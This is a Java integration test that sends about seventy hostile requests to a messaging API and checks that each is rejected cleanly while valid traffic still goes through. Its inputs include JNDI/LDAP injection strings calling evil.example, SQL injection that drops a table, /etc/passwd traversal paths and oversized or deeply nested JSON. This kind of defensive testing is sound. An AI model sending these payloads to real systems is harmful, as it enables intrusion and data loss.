package dev.courier.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.courier.it.app.TestApp;
import dev.courier.it.support.Api;
import dev.courier.it.support.Api.User;
import dev.courier.it.support.Handled;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Hostile requests across every endpoint: each gets a 4xx problem+json without a stack trace, and
 * messages dispatched by valid requests in between are all handled.
 */
@ExtendWith(ArquillianExtension.class)
class HostileInputIT {

  private static final String JSON = "application/json";
  private static final String PING = "{\"type\":\"test.ping\",\"payload\":{\"text\":\"a\"}";

  /** One request: method, path below /courier/api/, content type, body (null for none). */
  record Hostile(String method, String path, String contentType, String body) {
    @Override
    public String toString() {
      String shown = body == null ? "" : body.length() > 80 ? body.substring(0, 80) + "…" : body;
      return method + " " + path + " " + contentType + " " + shown;
    }
  }

  @Deployment(testable = false)
  static EnterpriseArchive deployment() {
    return TestApp.ear();
  }

  private static Hostile post(String path, String body) {
    return new Hostile("POST", path, JSON, body);
  }

  private static Hostile get(String path) {
    return new Hostile("GET", path, null, null);
  }

  private static String nested(int depth) {
    return "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
  }

  static List<Hostile> requests() {
    String uuid = UUID.randomUUID().toString();
    String batchOf1001 =
        "[" + String.join(",", java.util.Collections.nCopies(1001, PING + "}")) + "]";
    return List.of(
        post("messages", "{"),
        post("messages", PING),
        post("messages", "\"just a string\""),
        post("messages", "null"),
        post("messages", "123"),
        post("messages", "[]"),
        post("messages", "{\"type\":123,\"payload\":{}}"),
        post("messages", "{\"type\":\"test.ping\",\"payload\":[]}"),
        post("messages", "{\"type\":\"test.ping\",\"payload\":{\"text\":123}}"),
        post("messages", "{\"type\":\"test.ping\",\"payload\":{\"text\":\"a\"},\"delayMs\":1e400}"),
        post(
            "messages",
            "{\"type\":\"test.ping\",\"payload\":{\"text\":\"a\"},\"delayMs\":99999999999999999999999}"),
        post(
            "messages", "{\"type\":\"test.ping\",\"payload\":{\"text\":\"a\"},\"delayMs\":\"-1\"}"),
        post("messages", "{\"type\":\"test.ping\",\"payload\":{\"text\":\"a\"},\"delayMs\":-1}"),
        post("messages", "{\"type\":\"test.ping\",\"payload\":" + nested(40) + "}"),
        post("messages", "{\"type\":\"test.ping\",\"payload\":" + nested(5_000) + "}"),
        post("messages", "{\"type\":\"${jndi:ldap://evil.example/x}\",\"payload\":{}}"),
        post("messages", "{\"type\":\"test.ping'; DROP TABLE failed_message; --\",\"payload\":{}}"),
        post("messages", "{\"type\":\"test.ping\\u0000\",\"payload\":{}}"),
        post("messages", "{\"type\":\"\\u202Egnip.tset\",\"payload\":{}}"),
        post("messages", "{\"type\":\"\\uD800\",\"payload\":{}}"),
        post("messages", "{\"type\":\"" + "x".repeat(10_000) + "\",\"payload\":{}}"),
        post(
            "messages",
            "{\"type\":\"test.ping\",\"payload\":{\"text\":\"a\"},\"transport\":\"../../etc/passwd\"}"),
        post(
            "messages",
            "{\"type\":\"test.ping\",\"payload\":{\"text\":\"a\"},\"transport\":\"high\\n\"}"),
        post(
            "messages",
            "{\"type\":\"test.ping\",\"payload\":{\"text\":\"a\"},\"idempotencyKey\":\""
                + "k".repeat(10_000)
                + "\"}"),
        post(
            "messages",
            "{\"type\":\"test.ping\",\"payload\":{\"text\":\"a\"},\"correlationId\":\"bell\\u0007\"}"),
        post(
            "messages",
            "{\"type\":\"test.ping\",\"payload\":{\"text\":\"" + "x".repeat(300_000) + "\"}}"),
        post("messages", "\uFEFF" + PING + "}x"),
        post(
            "messages",
            "{\"type\":\"test.ping\",\"payload\":{\"text\":\"a\"},\"headers\":{\"X\":\"y\"}}"),
        new Hostile("POST", "messages", "text/plain", PING + "}"),
        new Hostile("POST", "messages", "application/xml", "<message/>"),
        new Hostile("POST", "messages", null, PING + "}"),
        new Hostile("PUT", "messages", JSON, PING + "}"),
        new Hostile("DELETE", "messages", null, null),
        get("messages"),
        new Hostile("PATCH", "messages", JSON, "{}"),
        post("messages/batch", "["),
        post("messages/batch", "{}"),
        post("messages/batch", "[null]"),
        post("messages/batch", batchOf1001),
        post("messages/batch", "[".repeat(3_000) + "]".repeat(3_000)),
        post("messages/batch", "[" + PING + "},\"x\"]"),
        post("probes", "{\"failTimes\":1e10}"),
        post("probes", "{\"failTimes\":9223372036854775808}"),
        post("probes", "{\"sleepMs\":-1}"),
        post("probes", "{\"unrecoverable\":\"true\"}"),
        post("probes", "{\"transport\":\"${jndi:ldap://evil.example/x}\"}"),
        post("probes", "{\"transport\":\"high\",\"transport\":{}}"),
        get("probes/..%2F..%2Fetc%2Fpasswd"),
        get("probes/%27%20OR%20%271%27=%271"),
        get("failed?page=-1"),
        get("failed?size=100000"),
        get("failed?page=99999999999"),
        get("failed?failedAfter=2026-99-99"),
        get("failed?transport=%24%7Bjndi:ldap://evil.example/x%7D"),
        get("failed?errorClass=" + "E".repeat(201)),
        get("failed?type=%00"),
        get("failed/1%20OR%201=1"),
        get("failed/..%2F..%2Fetc%2Fpasswd"),
        post("failed/retry", "{\"ids\":[1,2]}"),
        post("failed/retry", "{\"ids\":\"all\"}"),
        post("failed/remove", "{\"failedAfter\":\"yesterday\"}"),
        post("failed/remove", "{\"dryRun\":1}"),
        new Hostile("DELETE", "failed/%27%20or%201=1", null, null),
        post("failed/" + uuid + "/retry", ""),
        get("audit?page=-5"),
        get("audit?size=0"),
        get("audit?foo=bar"),
        get("nonexistent"),
        new Hostile("POST", "failed/stats", JSON, "{}"));
  }

  @Test
  void everyHostileRequestIsAClientErrorProblemAndValidMessagesStillGetThrough() {
    List<Hostile> hostile = requests();
    assertTrue(hostile.size() >= 60, "only " + hostile.size() + " hostile requests");
    List<String> sent = new ArrayList<>();
    for (int i = 0; i < hostile.size(); i++) {
      Hostile request = hostile.get(i);
      Api.Answer answer =
          Api.request(
              User.ADMIN, request.method(), request.path(), request.contentType(), request.body());
      assertTrue(
          answer.status() >= 400 && answer.status() < 500,
          request + " → " + answer.status() + " " + answer.body());
      assertTrue(
          answer.contentType().startsWith("application/problem+json"),
          request + " → " + answer.contentType());
      assertFalse(answer.body().contains("Exception"), request + " → " + answer.body());
      assertFalse(answer.body().contains("\tat "), request + " → " + answer.body());
      assertEquals(
          answer.status(), answer.json().getInt("status"), request + " → " + answer.body());
      if (i % 10 == 0) {
        String text = UUID.randomUUID().toString();
        Api.Answer valid =
            Api.post(
                "messages", "{\"type\":\"test.ping\",\"payload\":{\"text\":\"" + text + "\"}}");
        assertEquals(202, valid.status(), valid.body());
        sent.add(text);
      }
    }
    sent.forEach(Handled::awaitOnce);
  }

  @Test
  void tooManyOrTooLongHeadersAreRefused() {
    Api.Answer manyHeaders = Api.withHeaders(User.ADMIN, "failed/stats", 100, 10);
    assertEquals(431, manyHeaders.status(), manyHeaders.body());
    assertTrue(manyHeaders.contentType().startsWith("application/problem+json"));
    Api.Answer longHeader = Api.withHeaders(User.ADMIN, "failed/stats", 1, 10_000);
    assertEquals(431, longHeader.status(), longHeader.body());
  }
}
